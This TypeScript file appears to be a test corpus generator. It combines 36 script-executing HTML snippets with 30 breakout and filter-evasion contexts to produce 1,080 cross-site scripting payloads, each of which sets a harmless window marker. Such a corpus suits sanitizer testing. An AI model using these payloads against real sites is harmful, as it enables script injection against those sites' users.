/** Markup that a browser would run: each sets `window.__pwned` in its own way. `%` is the script. */
const acts = [
  '<script>%</script>',
  '<script src="data:text/javascript,%"></script>',
  '<img src=x onerror="%">',
  '<img/src/onerror=%>',
  '<svg onload="%">',
  '<svg><script>%</script></svg>',
  '<svg><animate onbegin="%" attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:%"><text y=20>x</text></a></svg>',
  '<body onload="%">',
  '<iframe srcdoc="<script>parent.%</script>"></iframe>',
  '<iframe src="javascript:parent.%"></iframe>',
  '<a href="javascript:%">x</a>',
  '<a href="java&#x09;script:%">x</a>',
  '<a href=" &#14; javascript:%">x</a>',
  '<a href="vbscript:%">x</a>',
  '<form action="javascript:%"><button>x</button></form>',
  '<button formaction="javascript:%">x</button>',
  '<input autofocus onfocus="%">',
  '<details open ontoggle="%">x</details>',
  '<video><source onerror="%"></video>',
  '<audio src=x onerror="%">',
  '<marquee onstart="%">x</marquee>',
  '<object data="javascript:%"></object>',
  '<embed src="javascript:%">',
  '<math><a xlink:href="javascript:%">x</a></math>',
  '<meta http-equiv="refresh" content="0;url=javascript:%">',
  '<base href="javascript:%//">',
  '<link rel=stylesheet href=x onerror="%">',
  '<style onload="%"></style>',
  '<p style="animation:x" onanimationstart="%">x</p>',
  '<div onpointerover="%" style="position:fixed;inset:0">x</div>',
  '<template><script>%</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=%>"></noscript>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=%&gt;">',
  '<svg></p><style><a id="</style><img src=x onerror=%>">',
  '<isindex action="javascript:%" type=image>',
] as const;

/** Contexts in which a careless page may put text, and the syntax that breaks out of them. */
const ways: readonly ((act: string) => string)[] = [
  act => act,
  act => `">${act}`,
  act => `'>${act}`,
  act => `--> ${act}`,
  act => `</title>${act}`,
  act => `</textarea>${act}`,
  act => `</script>${act}`,
  act => `</style>${act}`,
  act => `]]>${act}`,
  act => act.replace(/^<(\w+)/, (_, tag: string) => `<${tag.toUpperCase()}`),
  act => act.replace(/^<(\w+)/, '<$1\t\n'),
  act => act.replace(/>$/, ''),
  act => `<<${act.slice(1)}`,
  act => `<b>x</b>${act}<b>`,
  act => act.replaceAll('<', '\uff1c') + act,
  act => act.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  act => `\u202e${act}`,
  act => `{{constructor.constructor('%')()}}${act}`,
  act => `\\"});%;//${act}`,
  act => `=HYPERLINK("javascript:%")${act}`,
  act => `<!--${act}`,
  act => `<![CDATA[${act}]]>`,
  act => act.replace(/^<(\w)(\w*)/, '<$1\u200b$2'),
  act => act.replaceAll('"', '`'),
  act => act.replaceAll('=', ' =\f'),
  act => `%3Cscript%3E${act}`,
  act => `\\u003cscript\\u003e%\\u003c/script\\u003e${act}`,
  act => `javascript:%//${act}`,
  act => `" onmouseover="%" x="${act}`,
  act => `' autofocus onfocus='%' x='${act}`,
];

export interface Payload {
  /** In the script, to tell which one ran. */
  mark: string;
  text: string;
}

/** A thousand and eighty: each action in each context; the same for the same number. */
export function payloadAt(index: number): Payload {
  const act = acts[index % acts.length] ?? '';
  const way = ways[Math.floor(index / acts.length) % ways.length] ?? (whole => whole);
  const mark = `p${index}`;
  return { mark, text: way(act).replaceAll('%', `__pwned='${mark}'`) };
}

export const payloadCount = acts.length * ways.length;
